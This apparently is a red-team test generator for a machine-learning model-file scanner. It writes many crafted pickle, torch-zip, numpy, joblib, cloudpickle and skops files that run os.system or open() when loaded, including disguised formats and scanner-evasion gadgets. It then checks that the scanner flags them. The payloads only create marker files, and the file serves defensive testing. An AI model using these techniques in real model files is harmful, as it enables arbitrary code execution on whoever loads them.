"""Red-team round 2: pickle opcode, name-resolution and container tricks,
each proven to run its payload with the real loader in a fresh CPython.

usage: redteam.py OUT   writes OUT/evil/<name>, OUT/evil.json (name ->
loader), benign look-alikes under OUT/benign, and loads every evil file
with its loader (one fresh interpreter per loader, one try per file); the
payload only creates OUT/markers/<name>. The Go test (redteam_test.go)
checks that each marker exists and that the default scan fails the file
(MLG106, or MLG111 where it cannot judge the variant).

torch is not installed in the test venv: the "torchzip" loader opens
archive/data.pkl (the member torch.load reads) with pickle, as torch does.
"""

import functools
import io
import json
import os
import pickle
import struct
import subprocess
import sys
import zipfile

out = sys.argv[1]
E, B, M = (os.path.join(out, d) for d in ("evil", "benign", "markers"))
for d in (E, B, M):
    os.makedirs(d, exist_ok=True)

loaders = {}


def put(name, data, loader="pickle"):
    with open(os.path.join(E, name), "wb") as f:
        f.write(data)
    loaders[name] = loader


def mk(name):
    return os.path.join(M, name)


def su(s):
    """SHORT_BINUNICODE."""
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def bs(s):
    """SHORT_BINSTRING (protocol 1+)."""
    b = s.encode()
    return b"U" + bytes([len(b)]) + b


def touch_args(name):
    """MARK marker 'w' TUPLE: the arguments of open(marker, 'w')."""
    return b"(" + bs(mk(name)) + bs("w") + b"t"


def sys_args(name):
    return b"(" + bs("touch '%s'" % mk(name)) + b"t"


# --- opcode variants, protocols 0-5 ---------------------------------------
for proto in range(6):
    class E_:
        def __init__(self, n):
            self.n = n

        def __reduce__(self):
            return (os.system, ("touch '%s'" % mk(self.n),))
    n = "reduce_p%d.pkl" % proto
    put(n, pickle.dumps(E_(n), protocol=proto))

# INST (protocol 0): class "os system" with args from MARK.
n = "inst.pkl"
put(n, b"(S'touch %s'\nios\nsystem\n." % mk(n).encode())
# OBJ: MARK callable args OBJ.
n = "obj.pkl"
put(n, b"\x80\x02(cos\nsystem\nS'touch %s'\no." % mk(n).encode())
# INST whose module line has trailing spaces is a different module: use
# the py2 names instead (fix_imports): __builtin__.open via INST.
n = "inst_py2.pkl"
put(n, b"(S'%s'\nS'w'\ni__builtin__\nopen\n." % mk(n).encode())
# NEWOBJ on a class whose construction opens a file: io.FileIO.__new__
# does not open, so use NEWOBJ then REDUCE: cls.__new__ is enough for
# subprocess.Popen? no; use the class itself as callable via REDUCE of
# copyreg.__newobj__(_io.FileIO) -> not opened. Instead NEWOBJ_EX with a
# class whose __new__ runs code: pathlib.Path.__new__ does not write.
# So NEWOBJ on builtins.open's class io.FileIO with init through BUILD is
# not a call; the REDUCE of _io.FileIO itself opens the file:
n = "fileio_reduce.pkl"
put(n, b"\x80\x02c_io\nFileIO\n(" + bs(mk(n)) + bs("w") + b"tR.")
n = "io_open_code.pkl"
# io.open_code only reads: create the marker first with a tiny side
# effect? It cannot create files, so prove reading with an existing path
# is not a "marker" proof; skipped as a marker fixture (see classify list).

# --- STACK_GLOBAL operand sources -----------------------------------------
# Operands from the memo (PUT/GET, BINPUT/BINGET, MEMOIZE), reordered.
n = "sg_memo.pkl"
put(n, b"\x80\x04" + su("system") + b"\x94" + su("os") + b"\x94" + b"0" + b"0"
    + b"h\x01" + b"h\x00" + b"\x93" + sys_args(n) + b"R.")
n = "sg_memo_put.pkl"
put(n, b"\x80\x04" + su("bui") + b"p7\n0" + b"Vbuiltins\np8\n0" + b"Vopen\np9\n0"
    + b"g8\ng9\n\x93" + touch_args(n) + b"R.")
# raw-unicode-escape in protocol 0 UNICODE: \u escapes in module and name.
n = "sg_unicode_escape.pkl"
put(n, b"\x80\x04V\\u0062uiltins\nV\\u006fpen\n\x93" + touch_args(n) + b"R.")
# BINUNICODE / BINUNICODE8 operands.
n = "sg_binunicode8.pkl"
bu = lambda s: b"X" + struct.pack("<I", len(s)) + s.encode()
bu8 = lambda s: b"\x8d" + struct.pack("<Q", len(s)) + s.encode()
put(n, b"\x80\x04" + bu8("os") + bu("system") + b"\x93" + sys_args(n) + b"R.")
# STRING operands in protocol 4 (decoded to str with encoding ASCII).
n = "sg_binstring.pkl"
put(n, b"\x80\x04T" + struct.pack("<i", 2) + b"os" + bs("system") + b"\x93" + sys_args(n) + b"R.")
# STACK_GLOBAL under a MARK/POP_MARK dance and DUP.
n = "sg_dup_popmark.pkl"
put(n, b"\x80\x04(" + su("junk") + b"1" + su("os") + su("system") + b"\x93" + b"2" + b"0" + sys_args(n) + b"R.")

# --- dotted names (protocol 4 attribute chains) ---------------------------
dotted = [
    ("random", "_os.system"),
    ("tempfile", "_os.system"),
    ("threading", "_os.system") if hasattr(__import__("threading"), "_os") else None,
    ("collections", "_sys.modules.get"),
    ("typing", "sys.modules.get"),
    ("pathlib", "os.system"),
    ("posixpath", "os.system"),
    ("shlex", "os.system") if hasattr(__import__("shlex"), "os") else None,
    ("json", "decoder.re.compile"),
    ("copyreg", "__builtins__.get"),
]
for pair in dotted:
    if pair is None:
        continue
    mod, name = pair
    n = "dotted_%s_%s.pkl" % (mod, name.replace(".", "_"))
    if name.endswith("system"):
        put(n, b"\x80\x04" + su(mod) + su(name) + b"\x93" + sys_args(n) + b"R.")
    elif name.endswith("modules.get"):
        # sys.modules.get("os") -> module; then the module's "system"
        # cannot be fetched without getattr: prove reach by open via
        # builtins module: sys.modules.get("builtins") is not callable.
        # Use BUILD-free path: modules.get is itself reported, skip marker.
        continue
    elif name.endswith("__builtins__.get"):
        # copyreg.__builtins__ is the builtins dict in a non-main module:
        # .get("open") returns open.
        put(n, b"\x80\x04" + su(mod) + su(name) + b"\x93(" + bs("open") + b"tR" + touch_args(n) + b"R.")
    else:
        continue

# modules imported under another name inside ML libraries, reachable as
# attributes (pickle protocol 4 walks any attribute chain).
for mod, name in [("joblib.numpy_pickle", "os.system"), ("numpy.lib._datasource", "os.system")]:
    try:
        __import__(mod)
    except Exception:
        continue
    n = "dotted_%s.pkl" % mod.replace(".", "_")
    put(n, b"\x80\x04" + su(mod) + su(name) + b"\x93" + sys_args(n) + b"R.")

# --- stdlib gadgets not named os/subprocess --------------------------------
g = [
    ("_sitebuiltins_printer.pkl", None),
]
# operator.methodcaller / attrgetter chains through allowed-looking objects.
n = "methodcaller.pkl"
put(n, b"\x80\x04" + su("operator") + su("methodcaller") + b"\x93(" + bs("system") + bs("touch '%s'" % mk(n)) + b"tR"
    + su("os") + su("path") + b"\x93" + b"\x85R.")  # methodcaller("system", cmd)(posixpath) -> posixpath.system? no
del loaders[n]
os.remove(os.path.join(E, n))

# --- gadgets: callables outside os/subprocess that run code or resolve
# names, each proven here to create its marker.


def sg(mod, name):
    return su(mod) + su(name) + b"\x93"


def call_open(n):
    """the stack holds open-like callable: call it with (marker, 'w')."""
    return touch_args(n) + b"R"


# numpy.core._ufunc_reconstruct(module, name) is __import__ + getattr.
n = "g_ufunc_reconstruct.pkl"
put(n, b"\x80\x04" + sg("numpy.core", "_ufunc_reconstruct") + b"(" + bs("builtins") + bs("open") + b"tR" + call_open(n) + b".")
# scipy's uarray unpickle_function(mod, qname, self) is import_module + getattr.
n = "g_uarray_unpickle.pkl"
put(n, b"\x80\x04" + sg("scipy._lib._uarray._backend", "unpickle_function") + b"(" + bs("builtins") + bs("open")
    + b"NtR" + call_open(n) + b".")
# dataclasses._create_fn execs a function body given as text.
n = "g_dataclasses_create_fn.pkl"
put(n, b"\x80\x04" + sg("dataclasses", "_create_fn") + b"(" + bs("f") + b")" + b"]" + bs("open(%r, 'w')" % mk(n))
    + b"atR)R.")
# argparse.FileType('w')(path) creates the file.
n = "g_argparse_filetype.pkl"
put(n, b"\x80\x04" + sg("argparse", "FileType") + b"(" + bs("w") + b"tR(" + bs(mk(n)) + b"tR.")
# typing: a ForwardRef evaluated by typing._eval_type runs eval.
n = "g_typing_eval_type.pkl"
put(n, b"\x80\x04" + sg("typing", "_eval_type") + b"(" + sg("typing", "ForwardRef") + b"(" + bs("open(%r, 'w')" % mk(n))
    + b"tR}}tR.")
# scipy.optimize._nonlin._nonlin_wrapper formats its name into source it
# execs; scipy BSpline (allowlisted) supplies an __init__ with defaults.
n = "g_scipy_nonlin_wrapper.pkl"
code = "x(*a, **k): pass\nopen(%r, 'w')\ndef y" % mk(n)
put(n, b"\x80\x04" + sg("scipy.optimize._nonlin", "_nonlin_wrapper") + b"(" + bs(code) + sg("scipy.interpolate._bsplines", "BSpline") + b"tR.")
# a module alias reached as an attribute chain (protocol 4): random._os is os.
n = "g_alias_bltns.pkl"
# (numpy.lib._function_base_impl? no:) _pyio's alias-free; use random._os
put(n, b"\x80\x04" + sg("random", "_os.system") + sys_args(n) + b"R.")

# --- multiple pickles, trailing data ---------------------------------------
n = "second_pickle.pkl"
put(n, pickle.dumps({"ok": 1}, protocol=2) + b"\x80\x02cos\nsystem\n" + sys_args(n) + b"R.")

# --- containers ------------------------------------------------------------


def zbytes(members, **kw):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", **kw) as z:
        for nm, d, c in members:
            z.writestr(nm, d, compress_type=c)
    return buf.getvalue()


def evil_pkl(n, proto=2):
    return b"\x80" + bytes([proto]) + b"cos\nsystem\n" + sys_args(n) + b"R."


# torch.load reads <prefix>/data.pkl where prefix is the first member's
# directory; a zip whose records name another data.pkl first.
n = "torch_other_prefix.pt"
put(n, zbytes([("weird/data.pkl", evil_pkl(n), zipfile.ZIP_STORED), ("weird/version", b"3\n", zipfile.ZIP_STORED)]),
    "torchzip_any")
n = "torch_nested_zip.pt"
inner = zbytes([("archive/data.pkl", evil_pkl(n), zipfile.ZIP_STORED)])
put(n, zbytes([("archive/data.pkl", pickle.dumps({"a": 1}), zipfile.ZIP_STORED),
               ("archive/extra/inner.pt", inner, zipfile.ZIP_STORED)]), "inner_torchzip")
# gzip of a pickle (pandas.read_pickle / joblib sniff gzip).
import gzip
n = "gzip.pkl.gz"
put(n, gzip.compress(evil_pkl(n)), "joblib")
# pickle named as other formats.
for ext in ("safetensors", "onnx", "json", "txt", "h5", "keras", "yaml", "csv", "md"):
    n = "lie." + ext
    put(n, evil_pkl(n))
# prefix bytes that look like another format, parsed by pickle as
# harmless opcodes first: "{" EMPTY_DICT then POP... a JSON-looking start.
n = "json_prefix.json"
put(n, b"}0" + evil_pkl(n)[2:])
n = "npy_magic_prefix.bin"
# "\x93NUMPY" as a STACK_GLOBAL would fail; use N (NONE) + 0 (POP) x.
put(n, b"N0" * 3 + evil_pkl(n))
# safetensors-looking: 8-byte little-endian length then '{'; as pickle:
# a leading "(" ... is not possible with a length; use a header length
# whose bytes are pickle opcodes: "N0N0N0N0" = 0x304e304e304e304e (huge).
n = "safetensors_len.safetensors"
put(n, b"N0N0N0N0" + evil_pkl(n))
# ONNX-looking: protobuf field 1 varint (0x08 ir_version) is BINFLOAT? no:
# 0x08 is not a pickle opcode. A ZIP-local header first fails pickle.
# numpy .npy with object array whose pickle hides after a valid array.
import numpy as np
n = "npy_trailing.npy"
b = io.BytesIO()
np.save(b, np.arange(3.0))
put(n, b.getvalue() + evil_pkl(n), "npy_then_pickle")

# two arrays saved one after another on one handle, the second an object
# array: numpy.load twice on the handle unpickles it.
class R0:
    def __init__(self, n): self.n = n
    def __reduce__(self): return (os.system, ("touch '%s'" % mk(self.n),))
n = "npy_second_object.npy"
b = io.BytesIO()
np.save(b, np.arange(3.0))
np.save(b, np.array([R0(n)], dtype=object), allow_pickle=True)
put(n, b.getvalue(), "npy_twice")

# NPZ with an object array.
n = "npz_object.npz"
class R:
    def __init__(self, n): self.n = n
    def __reduce__(self): return (os.system, ("touch '%s'" % mk(self.n),))
b = io.BytesIO()
np.save(b, np.array([R(n)], dtype=object), allow_pickle=True)
put(n, zbytes([("x.npy", b.getvalue(), zipfile.ZIP_DEFLATED)]), "npz")

# joblib with each compressor on a plain evil object.
import joblib
for comp in ("zlib", "gzip", "bz2", "lzma", "xz"):
    n = "joblib_%s.joblib" % comp
    joblib.dump(R(n), os.path.join(E, n), compress=(comp, 3))
    loaders[n] = "joblib"
# joblib: a pickle after the first array's raw bytes.
n = "joblib_array_then.joblib"
joblib.dump([np.arange(4.0), R(n)], os.path.join(E, n))
loaders[n] = "joblib"

# cloudpickle / dill of functions that run on load.
import cloudpickle
n = "cloudpickle_reduce.pkl"
put(n, cloudpickle.dumps(R(n)))

# skops: schema.json names (module, class) pairs that skops.io.load imports;
# loaded the documented way, trusted=get_untrusted_types(file=...), they run.
import skops.io as sio


def skops_bytes(root):
    root = dict(root, protocol=2, _skops_version="0.16.0")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("schema.json", json.dumps(root))
    return buf.getvalue()


def js(v):
    return {"__class__": type(v).__name__, "__module__": "builtins", "__loader__": "JsonNode",
            "content": json.dumps(v), "is_json": True}


def tup(*items):
    return {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": list(items)}


n = "skops_reduce_system.skops"
put(n, skops_bytes({"__class__": "system", "__module__": "os", "__loader__": "ConstructorFromReduceNode",
                    "content": tup(js("touch '%s'" % mk(n)))}), "skops")
n = "skops_reduce_open.skops"
put(n, skops_bytes({"__class__": "open", "__module__": "builtins", "__loader__": "ConstructorFromReduceNode",
                    "content": tup(js(mk(n)), js("w"))}), "skops")
# nested under a trusted estimator's attributes, as a dict value.
from sklearn.linear_model import LogisticRegression
m = LogisticRegression().fit(np.array([[0.0], [1.0], [2.0], [3.0]]), [0, 0, 1, 1])
schema = json.loads(zipfile.ZipFile(io.BytesIO(sio.dumps(m))).read("schema.json"))
n = "skops_nested.skops"
schema["content"]["content"]["C"] = {"__class__": "FileType", "__module__": "argparse",
                                     "__loader__": "ConstructorFromReduceNode", "content": tup(js("w"))}
schema["content"]["content"]["tol"] = {"__class__": "system", "__module__": "os",
                                       "__loader__": "ConstructorFromReduceNode", "content": tup(js("touch '%s'" % mk(n)))}
buf = io.BytesIO()
with zipfile.ZipFile(io.BytesIO(sio.dumps(m))) as zin, zipfile.ZipFile(buf, "w") as zout:
    for it in zin.infolist():
        zout.writestr(it, json.dumps(schema) if it.filename == "schema.json" else zin.read(it.filename))
put(n, buf.getvalue(), "skops")
# a second schema.json earlier in the zip is shadowed: zipfile reads the last.
n = "skops_dup_schema.skops"
evil = json.dumps(dict({"__class__": "system", "__module__": "os", "__loader__": "ConstructorFromReduceNode",
                        "content": tup(js("touch '%s'" % mk(n)))}, protocol=2, _skops_version="0.16.0"))
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w") as z:
    z.writestr("schema.json", json.dumps(schema))
    import warnings as _w
    with _w.catch_warnings():
        _w.simplefilter("ignore")
        z.writestr("schema.json", evil)
put(n, buf.getvalue(), "skops")

# cloudpickle rebuilds __main__ classes from bytecode; a method the
# unpickler calls implicitly runs as the instance loads (no REDUCE of the
# rebuilt function): __setstate__ (BUILD), __getattr__ (BUILD's lookup),
# __new__ (NEWOBJ), __del__ (after the load).
class HookSetstate:
    def __init__(self, n):
        self.n = n

    def __setstate__(self, st):
        open(st["n"], "w").close()


class HookGetattr:
    def __init__(self, n):
        self.n = n

    def __getattr__(self, name):
        open(self.__dict__.get("n") or MARK_GETATTR, "w").close()
        raise AttributeError(name)


class HookNew:
    def __new__(cls, *a):
        open(MARK_NEW, "w").close()
        return object.__new__(cls)

    def __reduce_ex__(self, p):
        import copyreg
        return (copyreg.__newobj__, (type(self),), {})


class HookDel:
    def __init__(self, n):
        self.n = n

    def __del__(self):
        open(self.n, "w").close()


MARK_INIT, MARK_SUB = mk("cp_init_reconstructor.pkl"), mk("cp_init_subclass.pkl")


class HookInit:
    # copyreg._reconstructor(cls, base, state) calls base.__init__(obj, state).
    def __init__(self, st=None):
        if st is not None:
            open(MARK_INIT, "w").close()

    def __reduce__(self):
        import copyreg
        return (copyreg._reconstructor, (type(self), type(self), 1))


class HookBase:
    def __init_subclass__(cls, **kw):
        open(MARK_SUB, "w").close()


class HookSub(HookBase):
    pass


os.remove(MARK_SUB)  # defining HookSub here ran the hook; only the load may count


put("cp_init_reconstructor.pkl", cloudpickle.dumps(HookInit()))
put("cp_init_subclass.pkl", cloudpickle.dumps(HookSub))
def partial_payload():
    open(MARK_PARTIAL, "w").close()


class HookPartial:
    # functools.partial (allowlisted) wraps the rebuilt function; the
    # REDUCE of the partial calls it.
    def __reduce__(self):
        return (functools.partial(partial_payload), ())


MARK_PARTIAL = mk("cp_partial.pkl")
put("cp_partial.pkl", cloudpickle.dumps(HookPartial()))
def ctor_payload(name):
    open(MARK_CTOR, "w").close()


class HookCtor:
    # numpy.random._pickle.__generator_ctor (allowlisted) calls the
    # bit_generator_ctor it is given on the name.
    def __reduce__(self):
        from numpy.random import _pickle
        return (getattr(_pickle, "__generator_ctor"), ("MT19937", ctor_payload))


MARK_CTOR = mk("cp_generator_ctor.pkl")
put("cp_generator_ctor.pkl", cloudpickle.dumps(HookCtor()))
MARK_GETATTR, MARK_NEW = mk("cp_getattr.pkl"), mk("cp_new.pkl")
put("cp_setstate.pkl", cloudpickle.dumps(HookSetstate(mk("cp_setstate.pkl"))))
put("cp_getattr.pkl", cloudpickle.dumps(HookGetattr(mk("cp_getattr.pkl"))))
put("cp_new.pkl", cloudpickle.dumps(HookNew()))
put("cp_del.pkl", cloudpickle.dumps(HookDel(mk("cp_del.pkl"))))

with open(os.path.join(out, "evil.json"), "w") as f:
    json.dump(loaders, f)

LOAD = {
    "pickle": "import pickle,sys; pickle.load(open(sys.argv[1],'rb'))",
    "joblib": "import joblib,sys; joblib.load(sys.argv[1])",
    "npz": "import numpy,sys; z=numpy.load(sys.argv[1], allow_pickle=True); [z[k] for k in z.files]",
    "torchzip": "import pickle,sys,zipfile; pickle.load(zipfile.ZipFile(sys.argv[1]).open('archive/data.pkl'))",
    # torch.load takes the record prefix from the first name.
    "torchzip_any": ("import pickle,sys,zipfile; z=zipfile.ZipFile(sys.argv[1]); p=z.namelist()[0].split('/')[0];"
                     " pickle.load(z.open(p+'/data.pkl'))"),
    "inner_torchzip": ("import pickle,sys,zipfile,io; z=zipfile.ZipFile(sys.argv[1]);"
                       " i=zipfile.ZipFile(io.BytesIO(z.read('archive/extra/inner.pt'))); pickle.load(i.open('archive/data.pkl'))"),
    "skops": ("import skops.io as sio,sys; sio.load(sys.argv[1], trusted=sio.get_untrusted_types(file=sys.argv[1]))"),
    "npy_twice": "import numpy,sys; f=open(sys.argv[1],'rb'); numpy.load(f); numpy.load(f, allow_pickle=True)",
    "npy_then_pickle": "import numpy,pickle,sys; f=open(sys.argv[1],'rb'); numpy.load(f); pickle.load(f)",
}
# One fresh interpreter per loader, loading its files one by one (each in
# its own try): payloads only create their own marker.
RUN = """
import sys
code = compile(sys.argv[1], "load", "exec")
for path in sys.argv[2:]:
    try:
        exec(code, {"__name__": "load", "path": path})
    except BaseException:
        pass
"""
by = {}
for name, how in loaders.items():
    by.setdefault(how, []).append(os.path.join(E, name))
for how, paths in by.items():
    subprocess.run([sys.executable, "-c", RUN, LOAD[how].replace("sys.argv[1]", "path")] + paths,
                   capture_output=True, timeout=300)

# Benign look-alikes: arrays numpy writes, alone and saved one after another.
dts = [np.float64, np.float32, np.int8, np.uint16, np.bool_, np.complex128, "U5", "S3", "M8[ns]", "m8[s]", "V4"]
for i, dt in enumerate(dts):
    a = np.zeros((2, 3), dtype=dt)
    np.save(os.path.join(B, "a%d.npy" % i), a)
    np.save(os.path.join(B, "f%d.npy" % i), np.asfortranarray(a))
np.save(os.path.join(B, "scalar.npy"), np.float64(3.5))
np.save(os.path.join(B, "empty.npy"), np.zeros((0, 4)))
np.save(os.path.join(B, "struct.npy"), np.zeros(3, dtype=[("a", "<i4"), ("b", "S3")]))
with open(os.path.join(B, "chain.npy"), "wb") as f:
    for dt in dts:
        np.save(f, np.ones((3,), dtype=dt))
    np.save(f, np.zeros(2, dtype=[("a", "<i4")]))

# skops files of estimators that hold functions, partials and selectors.
import functools
from sklearn.compose import ColumnTransformer, make_column_selector
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import FunctionTransformer, StandardScaler
X = np.arange(20.0).reshape(10, 2)
for name, est in {
    "ft_log1p": FunctionTransformer(np.log1p),
    "ft_partial": FunctionTransformer(functools.partial(np.clip, a_min=0, a_max=5)),
    "pipe": make_pipeline(StandardScaler(), FunctionTransformer(np.sqrt)),
    "ct": ColumnTransformer([("s", StandardScaler(), make_column_selector(dtype_include=np.number))]),
}.items():
    try:
        est.fit(X)
    except Exception:
        est.fit(__import__("pandas").DataFrame(X, columns=["a", "b"]))
    sio.dump(est, os.path.join(B, name + ".skops"))
